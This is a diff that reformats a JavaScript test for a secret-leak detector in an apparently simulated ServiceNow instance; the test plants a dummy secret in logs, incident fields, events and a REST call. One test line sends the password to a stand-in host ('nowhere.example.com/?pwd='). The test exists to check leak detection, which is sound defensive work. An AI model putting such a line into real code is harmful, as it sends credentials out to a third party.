@@ -48,17 +48,23 @@ describe('secretsSeen', () => {
         const instance = fixtureInstance()
         const secret = 'hunter2-secret'
         expect(instance.secretsSeen([secret])).toEqual([])
-        instance.runScript(`
+        instance.runScript(
+            `
             var fx = new GlideRecord('x_rescue_connect_fx'); fx.secret = s; fx.insert();
-        `, { variables: { s: secret } })
+        `,
+            { variables: { s: secret } }
+        )
         instance.setProperty('x_rescue_connect.fixture_password', 'x')
         expect(instance.secretsSeen([secret])).toEqual([])
-        instance.runScript(`
+        instance.runScript(
+            `
             gs.info('leaking ' + s);
             var inc = new GlideRecord('incident'); inc.work_notes = 'note ' + s; inc.description = s; inc.insert();
             gs.eventQueue('x.event', inc, s);
             var r = new sn_ws.RESTMessageV2(); r.setEndpoint('https://nowhere.example.com/?pwd=' + s); r.execute();
-        `, { variables: { s: secret } })
+        `,
+            { variables: { s: secret } }
+        )
         const places = instance.secretsSeen([secret]).map((s) => s.where)
         expect(places).toEqual(
             expect.arrayContaining([
@@ -93,7 +99,12 @@ describe('secretsSeen', () => {
             { variables: { s: secret } }
         )
         instance.processEvents()
-        expect(instance.secretsSeen([secret]).map((s) => s.where).sort()).toEqual([
+        expect(
+            instance
+                .secretsSeen([secret])
+                .map((s) => s.where)
+                .sort()
+        ).toEqual([
             expect.stringMatching(/^content of attachment [0-9a-f]{32}$/),
             'email #0 (Fx mail) body',
             expect.stringMatching(/^incident\.short_description of /),
